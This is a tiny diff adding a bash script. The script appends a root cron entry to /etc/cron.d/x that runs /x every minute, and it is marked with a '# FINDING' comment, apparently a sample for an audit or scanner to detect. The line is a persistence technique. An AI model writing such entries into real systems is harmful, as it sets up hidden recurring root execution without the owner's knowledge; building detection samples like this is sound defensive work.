@@ -1,0 +1,2 @@
+#!/bin/bash
+echo "* * * * * root /x" | tee -a /etc/cron.d/x  # FINDING
